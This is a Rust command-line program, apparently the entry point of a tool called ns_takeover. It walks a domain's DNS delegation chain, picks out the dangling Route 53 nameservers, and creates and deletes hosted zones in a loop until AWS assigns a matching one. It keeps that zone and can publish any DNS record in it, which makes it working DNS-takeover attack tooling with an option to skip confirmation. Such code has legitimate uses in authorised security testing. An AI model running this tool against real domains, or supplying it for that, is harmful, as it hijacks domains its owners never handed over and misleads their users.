#![warn(clippy::pedantic)]
// Don't care enough to fix
#![allow(clippy::too_many_lines)]

mod logging;
mod route53;
mod settings;

use clap::Parser;
use std::io::{self, BufRead, Write};
use std::net::Ipv4Addr;
use std::path::PathBuf;
use std::process;
use std::time::Duration;

use dns_types::protocol::types::{DomainName, RecordType};
use ns_takeover::acquire::{AcquisitionConfig, AcquisitionLoop, TakeoverResult};
use ns_takeover::cancel::CancellationToken;
use ns_takeover::candidates::{extract_candidates, ProviderConvention};
use ns_takeover::delegation::{
    DelegationChain, DelegationWalker, WalkerConfig, DEFAULT_MAX_DEPTH, DEFAULT_QUERY_TIMEOUT,
    DEFAULT_ROOT_HINT,
};
use ns_takeover::net::{SystemResolver, UdpTransport};
use ns_takeover::provider::{RecordChange, SimulatedPool, Tag, ZoneProvider};

use crate::logging::LogFormat;
use crate::route53::Route53Provider;
use crate::settings::Settings;

const EXIT_ERROR: i32 = 1;
const EXIT_NO_CANDIDATES: i32 = 2;
const EXIT_NOT_ACQUIRED: i32 = 3;

const DEFAULT_MAX_ATTEMPTS: usize = 1000;
const DEFAULT_DELAY_MS: u64 = 1000;
const DEFAULT_LOG_FILE: &str = "takeover.log";

// the doc comments for this struct turn into the CLI help text
#[derive(Debug, Parser)]
/// Check whether a domain is delegated to Route 53 nameservers no
/// zone answers for, and try to claim it.
///
/// The live delegation chain is walked from the root to find the
/// nameservers the parent zone delegates to.  Hosted zones are then
/// created and deleted in Route 53 until one is assigned one of those
/// nameservers.  That zone is left in place.
struct Args {
    /// Domain to take over
    #[clap(value_parser)]
    domain: DomainName,

    /// Maximum number of zones to create [default: 1000]
    #[clap(long, env = "TAKEOVER_MAX_ATTEMPTS", value_parser)]
    max_attempts: Option<usize>,

    /// Only target the first candidate nameserver
    #[clap(long, action(clap::ArgAction::SetTrue))]
    single: bool,

    /// Do not ask for confirmation before creating zones
    #[clap(long, env = "TAKEOVER_FORCE", action(clap::ArgAction::SetTrue))]
    force: bool,

    /// Type of a record to publish in the acquired zone
    #[clap(long, value_parser, requires_all = ["record_name", "record_value"])]
    record_type: Option<RecordType>,

    /// Name of a record to publish in the acquired zone
    #[clap(long, value_parser, requires_all = ["record_type", "record_value"])]
    record_name: Option<DomainName>,

    /// Value of a record to publish in the acquired zone
    #[clap(long, value_parser, requires_all = ["record_type", "record_name"])]
    record_value: Option<String>,

    /// Maximum number of delegation queries [default: 40]
    #[clap(long, env = "TAKEOVER_MAX_DEPTH", value_parser)]
    max_depth: Option<usize>,

    /// Root nameserver to start the walk from [default: 198.41.0.4]
    #[clap(long, env = "TAKEOVER_ROOT_HINT", value_parser)]
    root_hint: Option<Ipv4Addr>,

    /// Milliseconds to wait between attempts [default: 1000]
    #[clap(long, env = "TAKEOVER_DELAY_MS", value_parser)]
    delay_ms: Option<u64>,

    /// Tag each created zone with KEY=VALUE, can be specified more than
    /// once
    #[clap(long, value_parser)]
    tag: Vec<Tag>,

    /// Path to a YAML settings file
    #[clap(short, long, env = "TAKEOVER_CONFIG", value_parser)]
    config: Option<PathBuf>,

    /// Do not touch Route 53: draw nameservers from a simulated pool of
    /// this size
    #[clap(long, value_parser)]
    simulate_pool: Option<usize>,

    /// File to append logs to [default: takeover.log]
    #[clap(long, env = "TAKEOVER_LOG_FILE", value_parser)]
    log_file: Option<PathBuf>,

    /// Do not write a log file
    #[clap(long, action(clap::ArgAction::SetTrue), conflicts_with = "log_file")]
    no_log_file: bool,

    /// Format of log output on stderr
    #[clap(long, env = "TAKEOVER_LOG_FORMAT", value_enum)]
    log_format: Option<LogFormat>,

    /// Print the final result as JSON
    #[clap(long, action(clap::ArgAction::SetTrue))]
    json: bool,
}

/// Args merged with the settings file.
struct Options {
    domain: DomainName,
    max_attempts: usize,
    single: bool,
    force: bool,
    record: Option<(RecordType, DomainName, String)>,
    walker: WalkerConfig,
    acquisition: AcquisitionConfig,
    simulate_pool: Option<usize>,
    log_file: Option<PathBuf>,
    log_format: LogFormat,
    json: bool,
}

impl Options {
    fn new(args: Args, settings: Settings) -> Self {
        let record = match (args.record_type, args.record_name, args.record_value) {
            (Some(rtype), Some(name), Some(value)) => Some((rtype, name, value)),
            _ => settings
                .record
                .map(|record| (record.rtype.0, record.name.0, record.value)),
        };

        let log_file = if args.no_log_file {
            None
        } else {
            Some(
                args.log_file
                    .or(settings.log_file)
                    .unwrap_or_else(|| PathBuf::from(DEFAULT_LOG_FILE)),
            )
        };

        let mut tags = settings.tags;
        tags.extend(args.tag);

        Self {
            domain: args.domain,
            max_attempts: args
                .max_attempts
                .or(settings.max_attempts)
                .unwrap_or(DEFAULT_MAX_ATTEMPTS),
            single: args.single,
            force: args.force,
            record,
            walker: WalkerConfig {
                root_hint: args
                    .root_hint
                    .or(settings.root_hint)
                    .unwrap_or(DEFAULT_ROOT_HINT),
                query_timeout: settings
                    .query_timeout_secs
                    .map_or(DEFAULT_QUERY_TIMEOUT, Duration::from_secs),
                max_depth: args
                    .max_depth
                    .or(settings.max_depth)
                    .unwrap_or(DEFAULT_MAX_DEPTH),
            },
            acquisition: AcquisitionConfig {
                inter_attempt_delay: Duration::from_millis(
                    args.delay_ms
                        .or(settings.delay_ms)
                        .unwrap_or(DEFAULT_DELAY_MS),
                ),
                tags,
            },
            simulate_pool: args.simulate_pool,
            log_file,
            log_format: args
                .log_format
                .or(settings.log_format)
                .unwrap_or_default(),
            json: args.json,
        }
    }
}

fn log_chain(chain: &DelegationChain) {
    for hop in chain.hops() {
        let _span = tracing::error_span!("hop", apex = %hop.apex).entered();
        for ns in hop.nameservers() {
            match &ns.hostname {
                Some(hostname) => tracing::info!(address = %ns.address, %hostname, "delegated"),
                None => tracing::info!(address = %ns.address, "root hint"),
            }
        }
    }
}

fn confirm(domain: &DomainName, targets: &[String], max_attempts: usize, simulated: bool) -> bool {
    println!("Target:      {}", domain.to_hostname());
    println!("Nameservers: {}", targets.join(", "));
    println!(
        "Up to {max_attempts} {}hosted zones will be created and deleted.",
        if simulated { "simulated " } else { "" }
    );
    print!("Proceed? [y/N] ");
    if io::stdout().flush().is_err() {
        return false;
    }

    let mut answer = String::new();
    match io::stdin().lock().read_line(&mut answer) {
        Ok(_) => matches!(answer.trim(), "y" | "Y" | "yes" | "Yes"),
        Err(_) => false,
    }
}

fn print_result(result: &TakeoverResult, json: bool) {
    if json {
        match serde_json::to_string_pretty(result) {
            Ok(serialised) => println!("{serialised}"),
            Err(error) => eprintln!("could not serialise result: {error}"),
        }
        return;
    }

    if result.success {
        println!(
            "Took over {} after {} attempts in {:.1}s",
            result.domain_name,
            result.attempts,
            result.elapsed.as_secs_f64()
        );
        if let Some(zone_id) = &result.zone_id {
            println!("Zone:        {zone_id}");
        }
        println!("Nameservers: {}", result.found_nameservers.join(", "));
    } else if result.cancelled {
        println!("Cancelled after {} attempts", result.attempts);
    } else {
        println!(
            "No match for {} in {} attempts ({:.1}s)",
            result.domain_name,
            result.attempts,
            result.elapsed.as_secs_f64()
        );
    }

    println!(
        "Saw {} distinct nameservers",
        result.unique_nameservers_observed
    );
    for (hostname, count) in result.frequencies.iter().into_iter().take(10) {
        println!("  {count:>5}  {hostname}");
    }

    if !result.leaked_zones.is_empty() {
        println!("Could not delete: {}", result.leaked_zones.join(", "));
    }
}

/// Pick the nameservers to hunt for from a finished walk.  An
/// interrupted walk may have stopped short of the real delegation, so
/// nothing is chosen from it.  On `Err`, the exit code.
fn choose_targets(
    domain: &DomainName,
    chain: &DelegationChain,
    single: bool,
    cancel: &CancellationToken,
) -> Result<Vec<String>, i32> {
    if cancel.is_cancelled() {
        println!("Interrupted while walking the delegation chain");
        return Err(EXIT_NOT_ACQUIRED);
    }

    let mut targets = extract_candidates(&ProviderConvention::ROUTE53, chain);
    if targets.is_empty() {
        println!(
            "{} is not delegated to any Route 53 nameservers",
            domain.to_hostname()
        );
        return Err(EXIT_NO_CANDIDATES);
    }
    if single {
        targets.truncate(1);
    }
    Ok(targets)
}

/// Run the acquisition loop and publish the record if one was asked
/// for.  Returns the exit code.
async fn acquire_and_publish<P: ZoneProvider>(
    provider: P,
    options: Options,
    targets: Vec<String>,
    cancel: CancellationToken,
) -> i32 {
    let acquisition = AcquisitionLoop::new(provider, options.acquisition);
    let result = match acquisition
        .acquire(&options.domain, &targets, options.max_attempts, &cancel)
        .await
    {
        Ok(result) => result,
        Err(error) => {
            tracing::error!(%error, "acquisition failed");
            eprintln!("{error}");
            return EXIT_ERROR;
        }
    };

    print_result(&result, options.json);

    let Some(zone_id) = result.zone_id.as_deref() else {
        return EXIT_NOT_ACQUIRED;
    };

    if let Some((rtype, name, value)) = options.record {
        let change = match RecordChange::new(name, rtype, value) {
            Ok(change) => change,
            Err(error) => {
                eprintln!("{error}");
                return EXIT_ERROR;
            }
        };
        match acquisition.provider().upsert_record(zone_id, &change).await {
            Ok(()) => tracing::info!(
                %zone_id,
                name = %change.name,
                rtype = %change.rtype,
                value = %change.value,
                "published record"
            ),
            Err(error) => {
                tracing::error!(%zone_id, %error, "could not publish record");
                eprintln!("could not publish record: {error}");
                return EXIT_ERROR;
            }
        }
    }

    0
}

#[tokio::main]
async fn main() {
    let args = Args::parse();

    let settings = match &args.config {
        Some(path) => match Settings::new(&path.to_string_lossy()) {
            Ok(settings) => settings,
            Err(error) => {
                eprintln!("could not read settings: {error}");
                process::exit(EXIT_ERROR);
            }
        },
        None => Settings::default(),
    };

    let options = Options::new(args, settings);

    if let Err(error) = logging::init(options.log_format, options.log_file.as_deref()) {
        eprintln!("could not open log file: {error}");
        process::exit(EXIT_ERROR);
    }

    let cancel = CancellationToken::new();
    tokio::spawn({
        let cancel = cancel.clone();
        async move {
            if tokio::signal::ctrl_c().await.is_ok() {
                tracing::warn!("interrupted - stopping after cleanup");
                cancel.cancel();
            }
        }
    });

    let walker = DelegationWalker::new(UdpTransport::new(), SystemResolver, options.walker);
    let chain = walker.walk(&options.domain, &cancel).await;
    log_chain(&chain);

    let targets = match choose_targets(&options.domain, &chain, options.single, &cancel) {
        Ok(targets) => targets,
        Err(code) => process::exit(code),
    };
    tracing::info!(domain = %options.domain, targets = ?targets, "found candidate nameservers");

    if !options.force
        && !confirm(
            &options.domain,
            &targets,
            options.max_attempts,
            options.simulate_pool.is_some(),
        )
    {
        println!("Aborted");
        process::exit(0);
    }

    let code = match options.simulate_pool {
        Some(size) => {
            acquire_and_publish(SimulatedPool::route53_like(size), options, targets, cancel).await
        }
        None => {
            let provider = Route53Provider::from_env().await;
            acquire_and_publish(provider, options, targets, cancel).await
        }
    };
    process::exit(code);
}
